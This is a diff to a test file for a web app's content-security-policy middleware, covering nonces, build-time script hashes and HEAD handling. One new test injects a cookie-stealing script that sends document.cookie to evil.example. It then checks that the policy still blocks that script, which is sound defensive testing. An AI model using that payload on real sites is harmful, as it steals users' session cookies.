@@ -1,6 +1,5 @@
 import { createHash } from 'node:crypto'
 import { Hono } from 'hono'
-import { brotliCompressSync, gzipSync } from 'node:zlib'
 import { describe, expect, it } from 'vitest'
 import { buildPolicy, contentSecurityPolicy, inlineScriptHashes, walletNodeOrigins } from './content-security-policy'
 
@@ -58,46 +57,67 @@ describe('walletNodeOrigins', () => {
 })
 
 describe('contentSecurityPolicy middleware', () => {
+  const boot = 'boot()'
+  const scriptHashes = { pages: { 'about/index.html': [sha(boot), sha('hydrate()')] }, rendered: [sha(boot)] }
   const app = new Hono()
-  app.use('*', contentSecurityPolicy({ rpcUrls: {}, googleMapsApiKey: 'a-browser-key-of-some-length' }))
-  app.get('/page', (c) => c.html('<html><head><script>run()</script></head></html>'))
+  app.use('*', contentSecurityPolicy({ rpcUrls: {}, googleMapsApiKey: 'a-browser-key-of-some-length', scriptHashes }))
+  // A server-rendered page: its own scripts carry the request's nonce.
+  app.get('/page', (c) => c.html(`<html><head><script>${boot}</script><script nonce="${c.get('cspNonce')}">run()</script></head></html>`))
+  // A prerendered page, as serveStatic answers it (onFound names the file it sent).
+  app.get('/about', (c) => {
+    c.set('staticFile', 'about/index.html')
+    return c.html(`<html><head><script>${boot}</script><script>hydrate()</script></head></html>`)
+  })
   app.get('/contact', (c) => c.html('<html></html>'))
   app.get('/data', (c) => c.json({ ok: true }))
   app.get('/unchanged', () => new Response(null, { status: 304, headers: { 'content-type': 'text/html; charset=utf-8' } }))
   app.get('/files/upload.html', () => new Response('<script>alert(1)</script>', { headers: { 'content-type': 'text/html; charset=utf-8', 'content-security-policy': "sandbox; default-src 'none'" } }))
 
-  it('sets the policy on HTML with the page’s own script hashes and the page’s socket origin', async () => {
-    const res = await app.request('http://site.test/page')
-    const policy = res.headers.get('content-security-policy')!
-    expect(directive(policy, 'script-src')).toBe(`script-src 'self' ${sha('run()')}`)
+  it('gives a server-rendered page a fresh nonce and the hashes of the build\'s own constant scripts, plus the page\'s socket origin', async () => {
+    const [first, second] = await Promise.all([app.request('http://site.test/page'), app.request('http://site.test/page')])
+    const policy = first.headers.get('content-security-policy')!
+    const nonce = /nonce="([^"]+)"/.exec(await first.text())![1]
+    expect(directive(policy, 'script-src')).toBe(`script-src 'self' 'nonce-${nonce}' ${sha(boot)}`)
+    expect(second.headers.get('content-security-policy')).not.toBe(policy)
     expect(directive(policy, 'connect-src')).toContain('ws://site.test')
     expect(policy).not.toContain('googleapis')
-    expect(await res.text()).toBe('<html><head><script>run()</script></head></html>')
   })
 
-  it('reads the hashes of a page sent precompressed (brotli or gzip)', async () => {
-    const page = '<html><head><script>boot()</script></head></html>'
-    const staticApp = new Hono()
-    staticApp.use('*', contentSecurityPolicy({ rpcUrls: {} }))
-    staticApp.get('/:name', (c) => {
-      const encoding = c.req.param('name')
-      const body = encoding === 'br' ? brotliCompressSync(page) : gzipSync(page)
-      return new Response(body, { headers: { 'content-type': 'text/html; charset=utf-8', 'content-encoding': encoding, 'last-modified': 'Sat, 21 Nov 2026 10:00:00 GMT' } })
+  it('gives a prerendered page the hashes the build took of its file', async () => {
+    const policy = (await app.request('http://site.test/about')).headers.get('content-security-policy')!
+    expect(directive(policy, 'script-src')).toBe(`script-src 'self' ${sha(boot)} ${sha('hydrate()')}`)
+  })
+
+  it('never allows an inline script injected into a response, prerendered or rendered', async () => {
+    const injected = 'fetch("https://evil.example/?c="+document.cookie)'
+    const tampered = new Hono()
+    tampered.use('*', contentSecurityPolicy({ rpcUrls: {}, scriptHashes }))
+    tampered.get('/about', (c) => {
+      c.set('staticFile', 'about/index.html')
+      return c.html(`<html><head><script>${boot}</script><script>${injected}</script></head></html>`)
     })
-    for (const encoding of ['br', 'gzip', 'br']) {
-      const policy = (await staticApp.request(`http://site.test/${encoding}`)).headers.get('content-security-policy')!
-      expect(directive(policy, 'script-src')).toBe(`script-src 'self' ${sha('boot()')}`)
+    tampered.get('/echo', (c) => c.html(`<html><body><p>${c.req.query('q')}</p></body></html>`))
+    tampered.get('/unknown-file', (c) => {
+      c.set('staticFile', 'not-built.html')
+      return c.html(`<html><script>${injected}</script></html>`)
+    })
+    for (const url of ['http://site.test/about', `http://site.test/echo?q=${encodeURIComponent(`<script>${injected}</script>`)}`, 'http://site.test/unknown-file']) {
+      const res = await tampered.request(url)
+      expect(await res.text()).toContain(injected)
+      const sources = directive(res.headers.get('content-security-policy')!, 'script-src')!.split(' ')
+      expect(sources).not.toContain(sha(injected))
+      expect(sources).not.toContain("'unsafe-inline'")
     }
   })
 
-  it('answers HEAD with the same policy as GET', async () => {
-    const [get, head] = await Promise.all([app.request('http://site.test/page'), app.request('http://site.test/page', { method: 'HEAD' })])
+  it('answers HEAD with the same script sources as GET for a prerendered page', async () => {
+    const [get, head] = await Promise.all([app.request('http://site.test/about'), app.request('http://site.test/about', { method: 'HEAD' })])
     expect(head.headers.get('content-security-policy')).toBe(get.headers.get('content-security-policy'))
   })
 
   it('allows the public address\'s secure socket behind a TLS proxy', async () => {
     const proxied = new Hono()
-    proxied.use('*', contentSecurityPolicy({ rpcUrls: {}, publicUrl: 'https://www.example.co.uk' }))
+    proxied.use('*', contentSecurityPolicy({ rpcUrls: {}, publicUrl: 'https://www.example.co.uk', scriptHashes }))
     proxied.get('/', (c) => c.html('<html></html>'))
     const policy = (await proxied.request('http://10.0.0.5:3000/')).headers.get('content-security-policy')!
     expect(directive(policy, 'connect-src')).toContain('wss://www.example.co.uk')
